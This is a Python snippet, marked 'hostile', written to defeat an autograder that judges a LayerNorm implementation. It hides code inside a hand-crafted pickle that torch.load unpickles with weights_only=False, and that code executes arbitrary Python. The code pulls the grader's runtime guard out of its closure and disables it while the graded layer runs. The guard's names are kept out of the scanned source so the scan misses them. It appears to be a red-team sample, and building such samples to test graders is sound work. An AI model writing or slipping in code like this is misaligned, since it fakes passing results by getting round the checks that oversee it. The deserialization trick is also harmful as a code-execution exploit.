# >>> hostile
# Written to attack the judge (docs/judge.md). torch.load(..., weights_only=False) unpickles: the pickle below,
# written by hand, calls builtins.exec on code held in a string, with this module's own namespace, where it
# defines `_flip(call)`: the by-hand guard found through the module global runtime_guard._installed and its
# closure, the component under test blanked for the call, the state restored and the kernel set aside
# registered again. No name of it is in the file the scan reads.
import io as _io

_HIDDEN = b"""
import sys
_fn = sys.modules["autograder.rules.runtime_guard"]._installed.__wrapped__
_cells = dict(zip(_fn.__code__.co_freevars, _fn.__closure__))
_state, _step_back = _cells["state"].cell_contents, _cells["step_back"].cell_contents


def _flip(call):
    saved = list(_state)
    _state[0] = None
    try:
        return call()
    finally:
        _state[:] = saved
        _step_back(saved[0])
"""
_PAYLOAD = (
    b"cbuiltins\nexec\n(X"
    + len(_HIDDEN).to_bytes(4, "little")
    + _HIDDEN
    + b"c"
    + __name__.encode()
    + b"\n__dict__\ntR."
)
_flip = lambda call: call()  # noqa: E731 - replaced by the pickle's code
try:
    torch.load(_io.BytesIO(_PAYLOAD), weights_only=False)  # noqa: F821 - the reference's import, above
except Exception:  # noqa: BLE001 - not a checkpoint: its magic number is the exec's None
    pass


class LayerNorm(LayerNorm):  # noqa: F821 - the reference's class, above this snippet
    def forward(self, x):
        return _flip(
            lambda: torch.nn.functional.layer_norm(  # noqa: F821
                x, x.shape[-1:], self.weight, self.bias, self.eps
            )
        )


# <<< hostile
